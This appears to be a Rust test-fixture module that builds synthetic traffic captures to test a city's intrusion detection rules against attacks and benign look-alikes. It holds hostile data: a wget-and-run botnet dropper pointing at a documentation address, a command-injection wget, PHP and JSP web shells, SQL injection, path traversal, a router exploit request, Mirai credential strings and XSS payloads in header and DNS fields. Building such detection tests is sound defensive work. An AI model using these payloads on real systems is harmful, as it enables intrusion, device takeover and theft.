//! Scenarios for the detection rules: attacks that must raise alerts and
//! benign look-alikes that must not. Addresses: 10.30-10.35.x.x are city
//! networks, 198.51.100.0/24 and 203.0.113.0/24 (documentation ranges)
//! stand for the Internet.

use super::*;

/// Body of the EICAR anti-malware test file (a harmless, standard string).
pub const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/// A synthetic IoT dropper script: the shape of real ones, pointing at a
/// documentation address, fetching nothing that exists.
pub const DROPPER: &[u8] = b"#!/bin/sh\ncd /tmp || cd /var/run\nwget http://203.0.113.66/bins/x.mips; chmod 777 x.mips; ./x.mips city.exploit\nwget http://203.0.113.66/bins/x.arm7; chmod 777 x.arm7; ./x.arm7 city.exploit\n";

/// Strings of a Mirai-derived bot, in a file that is only those strings.
pub const MIRAI_STRINGS: &[u8] =
    b"\x7fELF\x01\x01\x01\0synthetic\0/bin/busybox MIRAI\0/dev/watchdog\0xmhdipc\x007ujMko0admin\0vizxv\0";

/// The update package the threat-intelligence case downloads; its SHA-256
/// is listed in `rules/intel/misp-export.json`.
pub const BAD_UPDATE: &[u8] = b"CITYSOC-SYNTHETIC-UPDATE-PACKAGE v1\n\x7fELF-not-really\n";

fn get(uri: &str, host: &str, ua: &str) -> Vec<u8> {
    format!("GET {uri} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n").into_bytes()
}

fn post(uri: &str, host: &str, ua: &str, ctype: &str, body: &[u8]) -> Vec<u8> {
    let mut r = format!(
        "POST {uri} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    r.extend_from_slice(body);
    r
}

fn ok(ctype: &str, body: &[u8]) -> Vec<u8> {
    let mut r =
        format!("HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
    r.extend_from_slice(body);
    r
}

fn status(code: u16, msg: &str) -> Vec<u8> {
    format!("HTTP/1.1 {code} {msg}\r\nContent-Length: 0\r\n\r\n").into_bytes()
}

pub(super) fn web_attacks() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    let (atk, portal, host) = ("203.0.113.50", "10.30.0.80", "portal.city.example");
    let sqlmap = "sqlmap/1.7.2#stable (https://sqlmap.org)";
    let reqs: Vec<(Vec<u8>, Vec<u8>)> = vec![
        // SQL injection by a tool that names itself.
        (get("/news.php?id=1%27%20OR%20%271%27=%271", host, sqlmap), status(500, "Internal Server Error")),
        (get("/news.php?id=1+union+select+username,password+from+users--", host, sqlmap), status(500, "Error")),
        // Path traversal.
        (get("/download?file=../../../../etc/passwd", host, "Mozilla/5.0"), status(404, "Not Found")),
        // Command injection through a diagnostic page.
        (
            get("/cgi-bin/diag.cgi?host=127.0.0.1%3bwget%20http://203.0.113.66/x.sh", host, "Mozilla/5.0"),
            status(403, "Forbidden"),
        ),
        // A GPON router exploit.
        (
            post(
                "/GponForm/diag_Form?images/",
                host,
                "Hello, World",
                "text/plain",
                b"XWebPageName=diag&diag_action=ping",
            ),
            status(404, "Not Found"),
        ),
        // A PHP web shell uploaded, then the EICAR test file fetched.
        (
            post("/upload.php", host, "Mozilla/5.0", "application/octet-stream", b"<?php @eval($_POST['c']); ?>\n"),
            ok("text/plain", b"stored\n"),
        ),
        (get("/files/readme.txt", host, "Mozilla/5.0"), ok("text/plain", EICAR)),
        (
            post(
                "/upload.jsp",
                host,
                "Mozilla/5.0",
                "application/octet-stream",
                b"<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
            ),
            ok("text/plain", b"stored\n"),
        ),
    ];
    let mut t = 0;
    for (i, (req, resp)) in reqs.iter().enumerate() {
        http_conversation(&mut c, t, atk, 40000 + i as u16, portal, 80, req, resp);
        t += 200 * MS;
    }
    // A city camera, compromised, fetches a botnet dropper.
    http_conversation(
        &mut c,
        t + S,
        "10.30.0.44",
        41000,
        "203.0.113.66",
        80,
        &get("/x.sh", "203.0.113.66", "Wget"),
        &ok("text/x-sh", DROPPER),
    );
    // And the binary the dropper names.
    http_conversation(
        &mut c,
        t + 2 * S,
        "10.30.0.44",
        41001,
        "203.0.113.66",
        80,
        &get("/bins/x.mips", "203.0.113.66", "Wget"),
        &ok("application/octet-stream", MIRAI_STRINGS),
    );
    c
}

pub(super) fn web_benign() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    let (portal, host) = ("10.30.0.80", "portal.city.example");
    let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    let reqs: Vec<(&str, Vec<u8>, Vec<u8>)> = vec![
        // Words that attack rules look for, not in attack syntax.
        (
            "10.35.1.20",
            get("/news/2023/trade-unions-select-new-leaders.html", host, ua),
            ok("text/html", b"<html>news</html>"),
        ),
        (
            "10.35.1.21",
            get("/search?q=union+of+select+committees&page=2", host, ua),
            ok("text/html", b"<html>results</html>"),
        ),
        ("10.35.1.22", get("/docs/passwd-reset-guide.pdf?v=1.2.3", host, ua), ok("application/pdf", b"%PDF-1.4 guide")),
        ("10.35.1.23", get("/api/ping?host=water.city.example", host, ua), ok("application/json", b"{\"ok\":true}")),
        ("10.35.1.24", get("/shelters/map?district=3", host, ua), ok("text/html", b"<html>map</html>")),
        // Files close to what YARA looks for: a PHP page, a backup script,
        // a text about the EICAR file.
        (
            "10.35.1.25",
            get("/scripts/backup.sh", host, ua),
            ok("text/x-sh", b"#!/bin/sh\ncd /tmp\ntar czf backup.tgz /srv/portal\nchmod 600 backup.tgz\n"),
        ),
        (
            "10.35.1.26",
            get("/about.php", host, ua),
            ok("text/plain", b"<?php echo htmlspecialchars($_GET['name']); ?>\n"),
        ),
        (
            "10.35.1.28",
            get("/report.jsp", host, ua),
            ok("text/html", b"<% String q = request.getParameter(\"q\"); out.println(q); %>"),
        ),
        (
            "10.35.1.29",
            get("/kb/watchdog.txt", host, ua),
            ok("text/plain", b"Devices reboot when /dev/watchdog is not fed; see /bin/busybox docs.\n"),
        ),
        (
            "10.35.1.27",
            get("/security/antivirus-test.html", host, ua),
            ok("text/html", b"<p>Download the EICAR-STANDARD-ANTIVIRUS-TEST-FILE from eicar.org to test scanners.</p>"),
        ),
        // The city's authorised scanner: attack traffic, filtered by rule.
        (
            "10.30.0.250",
            get("/news.php?id=1%27%20OR%20%271%27=%271", host, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            status(500, "Internal Server Error"),
        ),
        ("10.30.0.250", get("/download?file=../../etc/passwd", host, "nikto/2.5.0"), status(404, "Not Found")),
    ];
    let mut t = 0;
    for (i, (client, req, resp)) in reqs.iter().enumerate() {
        http_conversation(&mut c, t, client, 42000 + i as u16, portal, 80, req, resp);
        t += 300 * MS;
    }
    c
}

/// A connection attempt answered by RST (REJ) or by nothing (S0).
#[allow(clippy::too_many_arguments)]
fn probe(c: &mut Cap, t: i64, src: &str, sport: u16, dst: &str, dport: u16, open: bool, answered: bool) {
    let mut s = TcpSession::new(a(src), sport, a(dst), dport, 5_000, 9_000);
    c.ip(t, s.seg(true, SYN, &[]));
    if open {
        c.ip(t + 200, s.seg(false, SYN | ACK, &[]));
        c.ip(t + 400, s.seg(true, RST, &[]));
    } else if answered {
        c.ip(t + 200, s.seg(false, RST | ACK, &[]));
    }
}

pub(super) fn port_scan() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    // A vertical scan: 40 ports of one server in two seconds, three open.
    for (i, port) in (1..=40u16).map(|p| p * 7).enumerate() {
        let open = matches!(port, 21 | 77 | 280);
        probe(&mut c, i as i64 * 50 * MS, "203.0.113.77", 45000 + i as u16, "10.31.0.10", port, open, true);
    }
    // A Telnet sweep: 15 devices, no answers (Mirai-like).
    for i in 0..15u16 {
        let dst = format!("10.31.1.{}", 10 + i);
        let port = if i % 3 == 0 { 2323 } else { 23 };
        probe(&mut c, 3 * S + i64::from(i) * 30 * MS, "198.51.100.23", 46000 + i, &dst, port, false, false);
    }
    c
}

pub(super) fn scan_benign() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    // Monitoring: one check of HTTPS on 12 devices, all answered.
    for i in 0..12u16 {
        let dst = format!("10.31.2.{}", 10 + i);
        probe(&mut c, i64::from(i) * 40 * MS, "10.31.0.5", 47000 + i, &dst, 443, true, true);
    }
    // An operator tries a handful of ports on one host, some closed.
    for (i, port) in [22u16, 23, 80, 443, 8080, 8443].iter().enumerate() {
        probe(&mut c, S + i as i64 * 100 * MS, "10.31.0.6", 47100 + i as u16, "10.31.0.10", *port, *port == 22, true);
    }
    // A technician's Telnet to three devices on the workbench.
    for i in 0..3u16 {
        let dst = format!("10.31.3.{}", 10 + i);
        probe(&mut c, 2 * S + i64::from(i) * 100 * MS, "10.31.0.7", 47200 + i, &dst, 23, true, true);
    }
    c
}

pub(super) fn ssh_bruteforce() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    // Eight sessions from the Internet to a camera, each with two failed
    // passwords and no success.
    for i in 0..8u16 {
        ssh_session(
            &mut c,
            i64::from(i) * 2 * S,
            "198.51.100.90",
            48000 + i,
            "10.32.0.22",
            22,
            b"SSH-2.0-Go\r\n",
            &[112, 112],
        );
    }
    c
}

fn dns_query(c: &mut Cap, t: i64, client: &str, sport: u16, id: u16, name: &str, addr: [u8; 4]) {
    let (cl, ns) = (a(client), a("10.33.0.53"));
    let q = dns_msg(id, 0x0100, name.as_bytes(), 1, &[], 0);
    let r = dns_msg(id, 0x8180, name.as_bytes(), 1, &[(1, 300, addr.to_vec())], 0);
    c.ip(t, ip(cl, ns, 17, &udp(cl, ns, sport, 53, &q)));
    c.ip(t + 2 * MS, ip(ns, cl, 17, &udp(ns, cl, 53, sport, &r)));
}

pub(super) fn dns_dyndns() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    dns_query(&mut c, 0, "10.33.0.40", 50001, 0x2001, "cam-update.duckdns.org", [203, 0, 113, 5]);
    dns_query(&mut c, 100 * MS, "10.33.0.41", 50002, 0x2002, "relay7.ddns.net", [203, 0, 113, 6]);
    // Look-alikes: the city's own names containing the same words.
    dns_query(&mut c, 200 * MS, "10.33.0.42", 50003, 0x2003, "duckdns.org.city.example", [10, 33, 0, 80]);
    dns_query(&mut c, 300 * MS, "10.33.0.43", 50004, 0x2004, "ddns.city.example", [10, 33, 0, 81]);
    dns_query(&mut c, 400 * MS, "10.33.0.44", 50005, 0x2005, "noddns.net", [198, 51, 100, 8]);
    c
}

/// A full TCP exchange: handshake, a request and a reply, teardown.
#[allow(clippy::too_many_arguments)]
fn exchange(c: &mut Cap, t: i64, src: &str, sport: u16, dst: &str, dport: u16, req: &[u8], resp: &[u8]) {
    let mut s = TcpSession::new(a(src), sport, a(dst), dport, 15_000, 25_000);
    let mut t = t;
    c.ip(t, s.seg(true, SYN, &[]));
    c.ip(t + 100, s.seg(false, SYN | ACK, &[]));
    c.ip(t + 200, s.seg(true, ACK, &[]));
    t += MS;
    stream_send(c, &mut s, &mut t, true, req, 1400);
    stream_send(c, &mut s, &mut t, false, resp, 1400);
    c.ip(t, s.seg(true, FIN | ACK, &[]));
    c.ip(t + 100, s.seg(false, FIN | ACK, &[]));
    c.ip(t + 200, s.seg(true, ACK, &[]));
}

/// Modbus/TCP read holding registers (function 3) and its reply.
fn modbus_read() -> (Vec<u8>, Vec<u8>) {
    (vec![0, 1, 0, 0, 0, 6, 1, 3, 0, 0, 0, 2], vec![0, 1, 0, 0, 0, 7, 1, 3, 4, 0, 0x98, 0, 0x01])
}

pub(super) fn exposure() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    let (mq, mr) = modbus_read();
    // From the Internet: Telnet on a camera, MQTT on the sensor broker,
    // Modbus on a flood-gate controller.
    exchange(&mut c, 0, "198.51.100.14", 49000, "10.33.0.5", 23, b"admin\r\n", b"\xff\xfb\x01login: ");
    exchange(
        &mut c,
        S,
        "198.51.100.14",
        49001,
        "10.33.0.6",
        1883,
        b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00",
        b"\x20\x02\x00\x00",
    );
    exchange(&mut c, 2 * S, "198.51.100.14", 49002, "10.33.0.7", 502, &mq, &mr);
    // Inside the city: an operator's laptop reads the same controller.
    exchange(&mut c, 3 * S, "10.33.1.50", 49003, "10.33.0.7", 502, &mq, &mr);
    c
}

pub(super) fn exposure_benign() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    let (mq, mr) = modbus_read();
    // The engineering station polls the controller.
    exchange(&mut c, 0, "10.33.9.5", 49100, "10.33.0.7", 502, &mq, &mr);
    // City hosts use the management services.
    exchange(&mut c, S, "10.33.1.51", 49101, "10.33.0.5", 23, b"admin\r\n", b"\xff\xfb\x01login: ");
    exchange(
        &mut c,
        2 * S,
        "10.33.1.52",
        49102,
        "10.33.0.6",
        1883,
        b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00",
        b"\x20\x02\x00\x00",
    );
    // The Internet knocks on a management port but is refused.
    probe(&mut c, 3 * S, "198.51.100.15", 49103, "10.33.0.5", 23, false, true);
    // And reaches the public web portal, which is what it is for.
    exchange(
        &mut c,
        4 * S,
        "198.51.100.16",
        49104,
        "10.33.0.80",
        80,
        &get("/", "portal.city.example", "Mozilla/5.0"),
        &ok("text/html", b"<html>city</html>"),
    );
    c
}

#[allow(clippy::too_many_arguments)]
fn tls_conversation(
    c: &mut Cap,
    t0: i64,
    client: &str,
    cport: u16,
    server: &str,
    sni: &str,
    subject: &str,
    issuer: &str,
) {
    let mut s = TcpSession::new(a(client), cport, a(server), 443, 31_000, 91_000);
    let mut t = t0;
    c.ip(t, s.seg(true, SYN, &[]));
    c.ip(t + 100, s.seg(false, SYN | ACK, &[]));
    c.ip(t + 200, s.seg(true, ACK, &[]));
    t += MS;
    let mut server_flight = tls_record(22, &server_hello(0xc02f, Some("http/1.1"), false));
    server_flight.extend_from_slice(&tls_record(22, &certificate_from(subject, issuer)));
    server_flight.extend_from_slice(&tls_record(22, &tls_handshake(14, &[])));
    let mut client_fin = tls_record(22, &tls_handshake(16, &[65; 66]));
    client_fin.extend_from_slice(&tls_record(20, &[1]));
    client_fin.extend_from_slice(&tls_record(22, &[0xab; 40]));
    let mut server_fin = tls_record(20, &[1]);
    server_fin.extend_from_slice(&tls_record(22, &[0xcd; 40]));
    for (from_client, data) in [
        (true, tls_record(22, &client_hello(Some(sni), &["http/1.1"], false))),
        (false, server_flight),
        (true, client_fin),
        (false, server_fin),
        (true, tls_record(23, &[0x17; 100])),
        (false, tls_record(23, &[0x18; 300])),
    ] {
        stream_send(c, &mut s, &mut t, from_client, &data, 1200);
    }
    c.ip(t, s.seg(true, FIN | ACK, &[]));
    c.ip(t + 100, s.seg(false, FIN | ACK, &[]));
    c.ip(t + 200, s.seg(true, ACK, &[]));
}

pub(super) fn tls_self_signed() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    tls_conversation(
        &mut c,
        0,
        "10.34.0.10",
        51000,
        "203.0.113.40",
        "cdn-sync.example",
        "cdn-sync.example",
        "cdn-sync.example",
    );
    // Look-alike: a name that contains its issuer's name, signed by the city CA.
    tls_conversation(
        &mut c,
        S,
        "10.34.0.11",
        51001,
        "10.34.0.43",
        "City Issuing CA",
        "City Issuing CA portal",
        "City Issuing CA",
    );
    c
}

pub(super) fn ftp_cleartext() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    let mut ctl = TcpSession::new(a("10.35.0.10"), 55100, a("10.35.0.21"), 21, 1_000, 2_000);
    let mut t = 0;
    c.ip(t, ctl.seg(true, SYN, &[]));
    c.ip(t + 100, ctl.seg(false, SYN | ACK, &[]));
    c.ip(t + 200, ctl.seg(true, ACK, &[]));
    t += MS;
    for (from_client, line) in [
        (false, "220 Pump station FTP\r\n"),
        (true, "USER operator\r\n"),
        (false, "331 Password required.\r\n"),
        (true, "PASS Pump$tation7\r\n"),
        (false, "230 Logged in.\r\n"),
        (true, "RETR pumps.cfg\r\n"),
        (false, "550 pumps.cfg: No such file.\r\n"),
        (true, "QUIT\r\n"),
        (false, "221 Bye.\r\n"),
    ] {
        c.ip(t, ctl.seg(from_client, PSH | ACK, line.as_bytes()));
        t += MS;
    }
    c.ip(t, ctl.seg(true, FIN | ACK, &[]));
    c.ip(t + 100, ctl.seg(false, FIN | ACK, &[]));
    c.ip(t + 200, ctl.seg(true, ACK, &[]));
    c
}

pub(super) fn intel_hits() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    // A listed address (plain list).
    exchange(&mut c, 0, "10.34.1.10", 52000, "203.0.113.66", 8443, b"hello", b"world");
    // A subdomain of a listed domain (STIX bundle).
    dns_query(&mut c, S, "10.34.1.11", 52001, 0x3001, "update.c2-relay.example", [203, 0, 113, 99]);
    // A listed URL and a listed file hash (MISP export).
    http_conversation(
        &mut c,
        2 * S,
        "10.34.1.12",
        52002,
        "198.51.100.70",
        80,
        &get("/pkg/update.bin", "files.bad-mirror.example", "updater/1.0"),
        &ok("application/octet-stream", BAD_UPDATE),
    );
    // Look-alikes: a neighbour of the listed address, a parent of the
    // listed domain, another path on the listed host.
    exchange(&mut c, 3 * S, "10.34.1.13", 52003, "203.0.113.67", 8443, b"hello", b"world");
    dns_query(&mut c, 4 * S, "10.34.1.14", 52004, 0x3002, "relay.example", [203, 0, 113, 98]);
    http_conversation(
        &mut c,
        5 * S,
        "10.34.1.15",
        52005,
        "198.51.100.70",
        80,
        &get("/pkg/readme.txt", "files.bad-mirror.example", "updater/1.0"),
        &ok("text/plain", b"nothing here\n"),
    );
    c
}

/// Markup and script in every field a console shows: HTTP Host, URI,
/// User-Agent, Referer, DNS names, a TLS server name. A console that
/// renders any of it as HTML runs the script, which marks the page.
pub(super) fn web_hostile() -> Cap {
    let mut c = Cap::new(DLT_EN10MB);
    let mark = "document.body.setAttribute('data-pwned','1')";
    let host = format!("<script>{mark}</script>.city.example");
    let ua = format!("\"><svg onload=\"{mark}\">");
    let req = format!(
        "GET /news?q=<img/src=x/onerror={mark}> HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nReferer: javascript:{mark}\r\nAccept: */*\r\n\r\n"
    );
    http_conversation(&mut c, 0, "10.35.4.20", 43000, "10.30.0.80", 80, req.as_bytes(), &ok("text/html", b"<p>ok</p>"));
    dns_query(
        &mut c,
        300 * MS,
        "10.35.4.21",
        43001,
        0x4a01,
        "<img src=x onerror=alert(1)>.city.example",
        [10, 30, 0, 80],
    );
    dns_query(&mut c, 400 * MS, "10.35.4.21", 43002, 0x4a02, "\"><script>alert(2)</script>.example", [10, 30, 0, 81]);
    c
}
